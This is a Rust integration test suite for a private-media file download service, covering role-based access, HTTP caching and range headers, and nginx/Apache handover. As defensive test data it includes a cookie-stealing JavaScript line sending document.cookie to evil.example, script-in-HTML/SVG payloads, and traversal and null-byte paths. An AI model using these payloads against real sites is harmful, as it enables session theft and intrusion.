//! Downloads: who may download what through both views, and the HTTP of serving a file.

use std::time::{Duration, SystemTime};

use private_media::config::{DeliveryServer, PathRule};
use private_media::db::models::file::FileRow;
use private_media::domain::Role;
use reqwest::StatusCode;

use crate::helpers::{Browser, PNG, location, spawn_app, spawn_app_with, upload_file};

fn download_url(file: &FileRow) -> String {
    format!("/files/{}/download", file.id)
}

fn path_url(file: &FileRow) -> String {
    format!("/private-media/{}", file.storage_key)
}

fn header(response: &reqwest::Response, name: &str) -> String {
    response
        .headers()
        .get(name)
        .unwrap_or_else(|| panic!("no {name} header"))
        .to_str()
        .expect("ascii header")
        .to_owned()
}

/// Every user kind × every rule × both views, with the status each must get.
#[tokio::test]
async fn the_access_table_holds_for_both_views() {
    let app = spawn_app().await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let owner = app.logged_in("olivia", Role::User).await;
    let listed = app.logged_in("liam", Role::User).await;
    let plain = app.logged_in("paul", Role::User).await;
    let root = app.logged_in("root", Role::Superuser).await;
    let inactive = app.logged_in("ingrid", Role::Staff).await;
    let anonymous = app.browser();

    let rules = ["owner", "staff", "authenticated", "users"];
    let mut files = Vec::new();
    for rule in rules {
        let users: &[&str] = if rule == "users" { &["liam"] } else { &[] };
        let body = format!("the {rule} file");
        let file = upload_file(
            &app,
            &staff,
            &format!("{rule}.txt"),
            body.as_bytes(),
            rule,
            Some("olivia"),
            users,
        )
        .await;
        files.push((rule, file, body));
    }
    // Deactivated after logging in: the cookie it still holds must open nothing.
    let out = app.cli(&["user", "deactivate", "ingrid"], None);
    assert!(out.status.success());

    const OK: u16 = 200;
    const LOGIN: u16 = 303;
    const NO: u16 = 403;
    // (who, browser, detail view per rule [owner, staff, authenticated, users], path view)
    let table: [(&str, &Browser, [u16; 4], u16); 7] = [
        ("anonymous", &anonymous, [LOGIN; 4], LOGIN),
        ("plain user", &plain, [NO, NO, OK, NO], NO),
        ("owner", &owner, [OK, NO, OK, OK], NO),
        ("listed user", &listed, [NO, NO, OK, OK], NO),
        ("staff", &staff, [OK; 4], NO),
        ("superuser", &root, [OK; 4], OK),
        ("inactive", &inactive, [LOGIN; 4], LOGIN),
    ];
    let mut failures = Vec::new();
    for (who, browser, detail, path) in table {
        for (i, (rule, file, body)) in files.iter().enumerate() {
            for (view, url, want) in [
                ("detail", download_url(file), detail[i]),
                ("path", path_url(file), path),
            ] {
                let response = browser.get(&url).await;
                let status = response.status().as_u16();
                if status != want {
                    failures.push(format!("{who} / {rule} / {view}: {status}, want {want}"));
                    continue;
                }
                match status {
                    OK => {
                        let got = response.bytes().await.expect("body");
                        if got != body.as_bytes() {
                            failures.push(format!("{who} / {rule} / {view}: wrong bytes"));
                        }
                    }
                    LOGIN => {
                        let to = location(&response);
                        if !to.starts_with("/login?next=") {
                            failures.push(format!("{who} / {rule} / {view}: to {to}"));
                        }
                    }
                    _ => {
                        let text = response.text().await.expect("body");
                        if text.contains(body.as_str()) {
                            failures.push(format!("{who} / {rule} / {view}: leaked bytes"));
                        }
                    }
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[tokio::test]
async fn the_path_view_follows_its_configured_rule() {
    for (rule, plain_status, staff_status) in [
        (PathRule::Staff, 403, 200),
        (PathRule::Authenticated, 200, 200),
    ] {
        let app = spawn_app_with(|s| s.access.path_rule = rule).await;
        let staff = app.logged_in("stella", Role::Staff).await;
        let plain = app.logged_in("paul", Role::User).await;
        let file = upload_file(&app, &staff, "a.txt", b"abc", "staff", None, &[]).await;
        assert_eq!(
            plain.get(&path_url(&file)).await.status().as_u16(),
            plain_status
        );
        assert_eq!(
            staff.get(&path_url(&file)).await.status().as_u16(),
            staff_status
        );
    }
}

#[tokio::test]
async fn a_refused_user_learns_nothing_about_which_keys_exist() {
    let app = spawn_app_with(|s| s.access.path_rule = PathRule::Staff).await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let plain = app.logged_in("paul", Role::User).await;
    let file = upload_file(&app, &staff, "a.txt", b"abc", "authenticated", None, &[]).await;
    let existing = plain.get(&path_url(&file)).await;
    let missing = plain.get("/private-media/no/such/key.txt").await;
    let invalid = plain.get("/private-media/bad%00key/x%5c..").await;
    assert_eq!(existing.status(), StatusCode::FORBIDDEN);
    assert_eq!(missing.status(), StatusCode::FORBIDDEN);
    assert_eq!(invalid.status(), StatusCode::FORBIDDEN);
    assert_eq!(
        existing.text().await.unwrap(),
        missing.text().await.unwrap()
    );
}

#[tokio::test]
async fn unknown_and_malformed_ids_are_404() {
    let app = spawn_app().await;
    let user = app.logged_in("paul", Role::User).await;
    for id in [
        "00000000000000000000000000000000",
        "1",
        "..",
        "%2e%2e",
        "ABCDEF0123456789ABCDEF0123456789",
    ] {
        let response = user.get(&format!("/files/{id}/download")).await;
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "{id}");
    }
}

#[tokio::test]
async fn a_plain_download_carries_every_header() {
    let app = spawn_app().await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let file = upload_file(
        &app,
        &staff,
        "notes.txt",
        b"hello world",
        "staff",
        None,
        &[],
    )
    .await;
    let response = staff.get(&download_url(&file)).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(
        header(&response, "content-type"),
        "text/plain; charset=utf-8"
    );
    assert_eq!(header(&response, "content-length"), "11");
    assert_eq!(header(&response, "accept-ranges"), "bytes");
    assert_eq!(header(&response, "cache-control"), "private, no-cache");
    assert_eq!(header(&response, "x-content-type-options"), "nosniff");
    assert_eq!(
        header(&response, "content-disposition"),
        "attachment; filename=\"notes.txt\"; filename*=UTF-8''notes.txt"
    );
    assert!(header(&response, "etag").starts_with('"'));
    let modified = header(&response, "last-modified");
    assert!(modified.ends_with(" GMT"), "{modified}");
    assert!(header(&response, "content-security-policy").contains("default-src 'none'"));
    assert_eq!(response.bytes().await.unwrap(), &b"hello world"[..]);
}

#[tokio::test]
async fn a_range_gets_206_and_an_unsatisfiable_one_416() {
    let app = spawn_app().await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let file = upload_file(&app, &staff, "d.txt", b"0123456789", "staff", None, &[]).await;
    let url = staff.url(&download_url(&file));

    let partial = staff
        .client
        .get(&url)
        .header("range", "bytes=2-5")
        .send()
        .await
        .unwrap();
    assert_eq!(partial.status(), StatusCode::PARTIAL_CONTENT);
    assert_eq!(header(&partial, "content-range"), "bytes 2-5/10");
    assert_eq!(header(&partial, "content-length"), "4");
    assert_eq!(header(&partial, "cache-control"), "private, no-cache");
    assert_eq!(partial.bytes().await.unwrap(), &b"2345"[..]);

    let suffix = staff
        .client
        .get(&url)
        .header("range", "bytes=-3")
        .send()
        .await
        .unwrap();
    assert_eq!(suffix.status(), StatusCode::PARTIAL_CONTENT);
    assert_eq!(suffix.bytes().await.unwrap(), &b"789"[..]);

    let beyond = staff
        .client
        .get(&url)
        .header("range", "bytes=100-200")
        .send()
        .await
        .unwrap();
    assert_eq!(beyond.status(), StatusCode::RANGE_NOT_SATISFIABLE);
    assert_eq!(header(&beyond, "content-range"), "bytes */10");
    assert_eq!(header(&beyond, "cache-control"), "private, no-cache");
}

#[tokio::test]
async fn large_files_and_their_ranges_come_back_byte_for_byte() {
    let app = spawn_app().await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let data: Vec<u8> = (0..(5 * 1024 * 1024 + 123))
        .map(|i: u32| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    let file = upload_file(&app, &staff, "big.bin", &data, "staff", None, &[]).await;
    let url = staff.url(&download_url(&file));

    let whole = staff.get(&download_url(&file)).await;
    assert_eq!(header(&whole, "content-length"), data.len().to_string());
    assert_eq!(whole.bytes().await.unwrap(), &data[..]);

    let (start, end) = (1024 * 1024 - 7, 3 * 1024 * 1024 + 11);
    let partial = staff
        .client
        .get(&url)
        .header("range", format!("bytes={start}-{end}"))
        .send()
        .await
        .unwrap();
    assert_eq!(partial.status(), StatusCode::PARTIAL_CONTENT);
    assert_eq!(
        header(&partial, "content-range"),
        format!("bytes {start}-{end}/{}", data.len())
    );
    assert_eq!(partial.bytes().await.unwrap(), &data[start..=end]);

    let tail = staff
        .client
        .get(&url)
        .header("range", format!("bytes={}-", data.len() - 5))
        .send()
        .await
        .unwrap();
    assert_eq!(tail.bytes().await.unwrap(), &data[data.len() - 5..]);
}

#[tokio::test]
async fn conditional_requests_get_304_until_the_file_changes() {
    let app = spawn_app().await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let file = upload_file(&app, &staff, "c.txt", b"version one", "staff", None, &[]).await;
    let url = staff.url(&download_url(&file));
    let first = staff.get(&download_url(&file)).await;
    let etag = header(&first, "etag");
    let modified = header(&first, "last-modified");

    let by_etag = staff
        .client
        .get(&url)
        .header("if-none-match", &etag)
        .send()
        .await
        .unwrap();
    assert_eq!(by_etag.status(), StatusCode::NOT_MODIFIED);
    assert_eq!(header(&by_etag, "cache-control"), "private, no-cache");
    assert_eq!(header(&by_etag, "etag"), etag);
    assert!(by_etag.bytes().await.unwrap().is_empty());

    let by_date = staff
        .client
        .get(&url)
        .header("if-modified-since", &modified)
        .send()
        .await
        .unwrap();
    assert_eq!(by_date.status(), StatusCode::NOT_MODIFIED);
    assert_eq!(header(&by_date, "cache-control"), "private, no-cache");

    // The object changes (a later modification time, other bytes).
    let path = app.storage_root().join(file.storage_key.as_str());
    std::fs::write(&path, b"version two!").unwrap();
    let later = SystemTime::now() + Duration::from_secs(10);
    std::fs::File::options()
        .write(true)
        .open(&path)
        .unwrap()
        .set_modified(later)
        .unwrap();
    for (name, value) in [("if-none-match", &etag), ("if-modified-since", &modified)] {
        let response = staff
            .client
            .get(&url)
            .header(name, value.as_str())
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK, "{name}");
        assert_ne!(header(&response, "etag"), etag);
        assert_eq!(response.bytes().await.unwrap(), &b"version two!"[..]);
    }

    // A refused user gets no 304 either: the access check comes first.
    let plain = app.logged_in("paul", Role::User).await;
    let refused = plain
        .client
        .get(&url)
        .header("if-none-match", &etag)
        .send()
        .await
        .unwrap();
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn head_sends_the_headers_without_the_body() {
    let app = spawn_app().await;
    let staff = app.logged_in("root", Role::Superuser).await;
    let file = upload_file(&app, &staff, "h.txt", b"twelve bytes", "staff", None, &[]).await;
    for url in [download_url(&file), path_url(&file)] {
        let response = staff.client.head(staff.url(&url)).send().await.unwrap();
        assert_eq!(response.status(), StatusCode::OK, "{url}");
        assert_eq!(header(&response, "content-length"), "12");
        assert_eq!(header(&response, "cache-control"), "private, no-cache");
        assert!(header(&response, "content-disposition").starts_with("attachment"));
        assert!(response.headers().contains_key("etag"));
        assert!(response.bytes().await.unwrap().is_empty());
    }
    let anonymous = app.browser();
    let response = anonymous
        .client
        .head(anonymous.url(&download_url(&file)))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn unicode_names_survive_in_content_disposition() {
    let app = spawn_app().await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let cases = [
        (
            "résumé final.pdf",
            &b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"[..],
            "attachment; filename=\"resume final.pdf\"; \
             filename*=UTF-8''r%C3%A9sum%C3%A9%20final.pdf",
        ),
        (
            "Heizölrückstoßabdämpfung.txt",
            &b"Heizung"[..],
            "attachment; filename=\"Heizolruckstossabdampfung.txt\"; \
             filename*=UTF-8''Heiz%C3%B6lr%C3%BCcksto%C3%9Fabd%C3%A4mpfung.txt",
        ),
    ];
    for (name, bytes, expected) in cases {
        let file = upload_file(&app, &staff, name, bytes, "staff", None, &[]).await;
        assert_eq!(file.original_name, name);
        let response = staff.get(&download_url(&file)).await;
        assert_eq!(header(&response, "content-disposition"), expected);
        assert_eq!(response.bytes().await.unwrap(), bytes);
    }
}

#[tokio::test]
async fn html_and_svg_are_attachments_even_when_asked_inline() {
    let app = spawn_app().await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let html = upload_file(
        &app,
        &staff,
        "page.html",
        b"<!DOCTYPE html><script>alert(document.cookie)</script>",
        "staff",
        None,
        &[],
    )
    .await;
    let svg = upload_file(
        &app,
        &staff,
        "logo.svg",
        b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
        "staff",
        None,
        &[],
    )
    .await;
    for file in [&html, &svg] {
        for query in ["", "?inline=1"] {
            let response = staff.get(&format!("{}{query}", download_url(file))).await;
            assert_eq!(response.status(), StatusCode::OK);
            assert_eq!(
                header(&response, "content-type"),
                "application/octet-stream",
                "{} {query}",
                file.original_name
            );
            assert!(
                header(&response, "content-disposition").starts_with("attachment;"),
                "{} {query}",
                file.original_name
            );
            assert_eq!(header(&response, "x-content-type-options"), "nosniff");
        }
    }
}

#[tokio::test]
async fn a_png_asked_inline_is_inline() {
    let app = spawn_app().await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let png = upload_file(&app, &staff, "dot.png", PNG, "staff", None, &[]).await;
    let inline = staff.get(&format!("{}?inline=1", download_url(&png))).await;
    assert_eq!(header(&inline, "content-type"), "image/png");
    assert_eq!(
        header(&inline, "content-disposition"),
        "inline; filename=\"dot.png\"; filename*=UTF-8''dot.png"
    );
    let plain = staff.get(&download_url(&png)).await;
    assert_eq!(
        header(&plain, "content-disposition"),
        "attachment; filename=\"dot.png\"; filename*=UTF-8''dot.png"
    );
}

#[tokio::test]
async fn a_missing_object_is_404_not_500() {
    let app = spawn_app().await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let file = upload_file(&app, &staff, "gone.txt", b"soon gone", "staff", None, &[]).await;
    std::fs::remove_file(app.storage_root().join(file.storage_key.as_str())).unwrap();
    assert_eq!(
        staff.get(&download_url(&file)).await.status(),
        StatusCode::NOT_FOUND
    );
}

#[tokio::test]
async fn nginx_mode_hands_over_with_x_accel_redirect_and_no_body() {
    let app = spawn_app_with(|s| s.delivery.server = DeliveryServer::Nginx).await;
    let staff = app.logged_in("root", Role::Superuser).await;
    let file = upload_file(
        &app,
        &staff,
        "résumé.pdf",
        b"%PDF-1.4\nx",
        "staff",
        None,
        &[],
    )
    .await;
    for url in [download_url(&file), path_url(&file)] {
        let response = staff.get(&format!("{url}?inline=1")).await;
        assert_eq!(response.status(), StatusCode::OK);
        assert_eq!(
            header(&response, "x-accel-redirect"),
            format!("/private-x-accel-redirect/{}", file.storage_key)
        );
        assert_eq!(header(&response, "content-type"), "application/pdf");
        assert!(
            header(&response, "content-disposition").starts_with("inline; filename=\"resume.pdf\"")
        );
        assert_eq!(header(&response, "cache-control"), "private, no-cache");
        assert!(response.headers().get("x-sendfile").is_none());
        assert!(response.bytes().await.unwrap().is_empty());
    }
    // Refused users are refused before any hand-over.
    let plain = app.logged_in("paul", Role::User).await;
    let refused = plain.get(&download_url(&file)).await;
    assert_eq!(refused.status(), StatusCode::FORBIDDEN);
    assert!(refused.headers().get("x-accel-redirect").is_none());
}

#[tokio::test]
async fn the_nginx_internal_url_is_configurable_and_keys_are_percent_encoded() {
    let app = spawn_app_with(|s| {
        s.delivery.server = DeliveryServer::Nginx;
        s.delivery.internal_url = "/internal/media/".into();
        s.upload.upload_to = "{user}/%Y".into();
    })
    .await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let file = upload_file(&app, &staff, "a b~c.txt", b"x", "staff", None, &[]).await;
    let response = staff.get(&download_url(&file)).await;
    let target = header(&response, "x-accel-redirect");
    assert!(target.starts_with("/internal/media/stella/"), "{target}");
    assert_eq!(target, format!("/internal/media/{}", file.storage_key));
    assert!(!target.contains(' '));
}

#[tokio::test]
async fn apache_mode_hands_over_with_x_sendfile_and_no_body() {
    let app = spawn_app_with(|s| s.delivery.server = DeliveryServer::Apache).await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let file = upload_file(&app, &staff, "a.txt", b"apache", "staff", None, &[]).await;
    let response = staff.get(&download_url(&file)).await;
    assert_eq!(response.status(), StatusCode::OK);
    let expected = app
        .storage_root()
        .canonicalize()
        .unwrap()
        .join(file.storage_key.as_str());
    assert_eq!(header(&response, "x-sendfile"), expected.to_str().unwrap());
    assert_eq!(
        header(&response, "content-type"),
        "text/plain; charset=utf-8"
    );
    assert_eq!(header(&response, "cache-control"), "private, no-cache");
    assert!(response.headers().get("x-accel-redirect").is_none());
    assert!(response.bytes().await.unwrap().is_empty());
}

/// Scripts, pages and images named as active content: the sniffer sees text or a PNG, the
/// name says a browser would run it. Both views, with and without `?inline=1`.
#[tokio::test]
async fn files_named_as_active_content_are_octet_stream_attachments() {
    let app = spawn_app_with(|s| s.access.path_rule = PathRule::Staff).await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let cases: [(&str, &[u8]); 4] = [
        (
            "app.js",
            b"document.location = 'https://evil.example/?' + document.cookie;",
        ),
        ("evil.html", b"hello, plain words in a file named as a page"),
        ("image.svg", PNG),
        ("style.CSS", b"body { background: red }"),
    ];
    for (name, bytes) in cases {
        let file = upload_file(&app, &staff, name, bytes, "staff", None, &[]).await;
        assert!(
            !file.content_type.contains("javascript") && !file.content_type.contains("html"),
            "{name} was sniffed as {}",
            file.content_type
        );
        for url in [download_url(&file), path_url(&file)] {
            for query in ["", "?inline=1"] {
                let response = staff.get(&format!("{url}{query}")).await;
                assert_eq!(response.status(), StatusCode::OK, "{url}{query}");
                assert_eq!(
                    header(&response, "content-type"),
                    "application/octet-stream",
                    "{url}{query}"
                );
                assert_eq!(
                    header(&response, "content-disposition"),
                    format!("attachment; filename=\"{name}\"; filename*=UTF-8''{name}"),
                    "{url}{query}"
                );
            }
        }
    }
}

#[tokio::test]
async fn ascii_names_carry_both_filename_parameters() {
    let app = spawn_app().await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let file = upload_file(
        &app,
        &staff,
        "report 2026.pdf",
        b"%PDF-1.7\n",
        "staff",
        None,
        &[],
    )
    .await;
    let response = staff.get(&download_url(&file)).await;
    assert_eq!(
        header(&response, "content-disposition"),
        "attachment; filename=\"report 2026.pdf\"; filename*=UTF-8''report%202026.pdf"
    );
}

/// A name that is harmless as typed but active once transliterated for `filename=`: the
/// client reading that parameter would save a page or a script.
#[tokio::test]
async fn a_name_active_only_in_its_ascii_fallback_is_an_octet_stream_attachment() {
    let app = spawn_app().await;
    let staff = app.logged_in("stella", Role::Staff).await;
    let cases = [
        ("report.htm\u{142}", "report.html", "report.htm%C5%82"),
        (
            "x.\u{FF48}\u{FF54}\u{FF4D}\u{FF4C}",
            "x.html",
            "x.%EF%BD%88%EF%BD%94%EF%BD%8D%EF%BD%8C",
        ),
    ];
    for (name, fallback, encoded) in cases {
        // Plain words: the sniffer says text/plain, so only the name can give it away.
        let bytes = b"hello, plain words in a file named almost as a page";
        let file = upload_file(&app, &staff, name, bytes, "staff", None, &[]).await;
        let response = staff
            .get(&format!("{}?inline=1", download_url(&file)))
            .await;
        assert_eq!(response.status(), StatusCode::OK, "{name}");
        assert_eq!(
            header(&response, "content-type"),
            "application/octet-stream",
            "{name}"
        );
        assert_eq!(
            header(&response, "content-disposition"),
            format!("attachment; filename=\"{fallback}\"; filename*=UTF-8''{encoded}"),
            "{name}"
        );
    }
}
